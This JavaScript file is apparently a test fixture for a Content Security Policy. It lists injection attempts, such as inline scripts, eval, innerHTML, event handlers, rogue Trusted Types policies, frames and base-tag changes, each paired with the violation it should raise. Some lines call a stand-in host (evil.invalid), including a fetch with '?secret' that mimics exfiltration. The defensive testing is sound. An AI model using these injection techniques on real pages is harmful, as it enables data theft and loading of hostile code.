// What the security policy is there to stop.

/**
 * What content and scripts that came in somehow would try; each works, or throws.
 * @type {Record<string, { attempt: () => unknown, violates: RegExp }>}
 */
export const attacks = {
  'an inline script': {
    attempt: () => {
      const script = document.createElement('script');
      script.append('window.injected = true');
      document.body.append(script);
    },
    violates: /^(script-src-elem|require-trusted-types-for) /,
  },
  innerHTML: {
    attempt: () => {
      document.createElement('div').innerHTML = '<b>x</b>';
    },
    violates: /^require-trusted-types-for .*innerHTML/,
  },
  'a script of another site': {
    attempt: () => {
      const script = document.createElement('script');
      Reflect.set(script, 'src', 'https://evil.invalid/x.js');
      document.body.append(script);
    },
    violates: /^(require-trusted-types-for|script-src-elem) /,
  },
  eval: {
    // Later, because what a test runs directly may do this.
    attempt: () =>
      new Promise((resolve, reject) =>
        setTimeout(() => {
          try {
            resolve(globalThis.eval('window.injected = true'));
          } catch (error) {
            reject(error);
          }
        }),
      ),
    violates: /^(require-trusted-types-for|script-src) /,
  },
  'an event handler': {
    attempt: () => {
      document.body.setAttribute('onclick', 'window.injected = true');
    },
    violates: /^(require-trusted-types-for|script-src-attr) /,
  },
  'a policy of its own': {
    attempt: () => {
      /** @type {any} */ (window).trustedTypes.createPolicy('evil', {});
    },
    violates: /^trusted-types trusted-types-policy evil/,
  },
  'a style attribute': {
    attempt: () => document.body.setAttribute('style', 'color: red'),
    violates: /^style-src-attr inline/,
  },
  'a request to another site': {
    attempt: () => void fetch('https://evil.invalid/?secret').catch(() => {}),
    violates: /^connect-src https:\/\/evil\.invalid\//,
  },
  'a frame': {
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.invalid/';
      document.body.append(frame);
    },
    violates: /^(frame-src|default-src) https:\/\/evil\.invalid/,
  },
  'another base address': {
    attempt: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.invalid/';
      document.head.append(base);
    },
    violates: /^base-uri https:\/\/evil\.invalid/,
  },
};
